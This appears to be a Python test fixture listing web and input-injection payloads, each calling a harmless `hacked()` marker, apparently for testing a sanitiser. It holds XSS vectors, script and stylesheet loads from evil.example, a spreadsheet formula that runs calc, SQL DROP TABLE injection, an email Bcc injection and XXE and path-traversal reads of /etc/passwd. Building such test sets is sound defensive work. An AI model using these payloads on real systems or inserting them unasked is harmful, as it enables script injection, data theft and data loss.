"""Texts that try to run, to break out of where they stand, or to be taken for something else; each calls `hacked()`."""

RUN = "hacked()"
TAGS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script/x>{}</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script\n>{}</script\n>", "</script><script>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<img src=x onerror={}>", "<img src=x:x onerror='{}'>", "<img/src=x/onerror={}>", "<img src=`x`onerror={}>",
    '<img """><script>{}</script>">', "<IMG SRC=javascript:{}>", "<img src=x onerror=&#104;acked()>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext></p><img src=x onerror={}></math>", "<math href=javascript:{}>x</math>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<style><img src=x onerror={}></style>",
    "<body onload={}>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>", "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}></audio>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}><option>x</select>", "<marquee onstart={}>x</marquee>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<a href='&#x6A;avascript&colon;{}'>x</a>",
    "<a href='data:text/html,<script>{}'>x</a>",
    "<a href='vbscript:{}'>x</a>", "<form action=javascript:{}><button autofocus>x</button></form>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='background:url(javascript:{})'>x</p>", "<style>@import '//evil.example/x.css';</style>",
    "<template><script>{}</script></template>", "<xss id=x tabindex=1 onfocus={} autofocus>x</xss>",
    "<html xmlns='http://www.w3.org/1999/xhtml'><script>{}</script></html>",
    "<?xml-stylesheet href='javascript:{}'?>x",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)  # fmt: skip
QUOTES = (
    '" onmouseover="{}" x="', "' onmouseover='{}' x='", '"><script>{}</script>', "'><img src=x onerror={}>",
    '" autofocus onfocus="{}', "` onerror={} `", '\\"};{};//', "';{};//", "\\u003cscript>{}</script>", "${{{}}}",
    "{{{{ {} }}}}", "{{% raw %}}{}", "\u2028{}", '"}}</script><script>{}</script>', "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E", "＜script＞{}＜/script＞",
    "\ufeff<script>{}</script>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](<java\tscript:{}>)", "[x](&#106;avascript:{})",
    "[x]: javascript:{}\n\n[x]",
    "![x](javascript:{})", '![x](x"onerror="{})', '[x](y "z" onmouseover="{}")', "<javascript:{}>",
    "`</code><script>{}</script>`",
    "[<img src=x onerror={}>](actor:x0)", "[x](vbscript:{})", "[x](data:text/html,<script>{}</script>)",
    "    </code></pre><script>{}</script>", "\x7f[x](\x7fjavascript:{})",
)  # fmt: skip
OTHERS = (
    "=cmd|' /C calc'!A0", "+1+cmd|'x'!A", "-2+3", "@SUM(1+1)", "\t=1+1", '=HYPERLINK("//evil.example","x")',
    "'; DROP TABLE entries; --", "x\r\nBcc: ada@evil.example", "x\n\n.\nQUIT", "%s%n{0}{x}", "../../etc/passwd",
    "javascript:{}", "data:text/html,<script>{}</script>", "//evil.example/x", 'https://evil.example/"onclick={}',
    "\u202e<script>{}</script>", "a\u0301\u0302\u200d\u200b\U000e0041",
)  # fmt: skip
PAYLOADS = tuple(payload.replace("{}", RUN) for payload in (*TAGS, *QUOTES, *MARKDOWN, *OTHERS))
